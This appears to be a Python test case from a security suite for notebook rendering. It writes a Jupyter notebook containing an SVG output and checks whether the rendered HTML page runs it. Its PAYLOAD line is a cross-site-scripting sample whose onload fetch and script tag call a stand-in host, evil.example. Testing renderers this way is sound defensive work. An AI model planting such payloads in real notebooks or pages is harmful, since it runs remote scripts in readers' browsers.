# A drawing that loads a script, in the pages made of it.
# stopped by: a drawing is no kind of output that is kept
# control: own
# expect: graded 0

import json

from target import cells_of, notebook, obeyed

MARK = "evil.example"
PAYLOAD = '<svg xmlns=\'http://www.w3.org/2000/svg\' onload="fetch(\'//evil.example\')"><script href=\'//evil.example/a.js\'/></svg>'


def make(folder, name, honest):
    found = notebook(cells_of({}, {"": f"from IPython.display import display\ndisplay({{'image/svg+xml': {PAYLOAD!r}}}, raw=True)"}))
    (folder / f"{name}.ipynb").write_text(json.dumps(found))


def control(folder):
    """Put into a page as it is: nbconvert itself shows drawings as pictures, which run nothing."""
    return browsed(f"<html><body>{PAYLOAD}</body></html>")


def browsed(page):
    return obeyed(page, MARK)
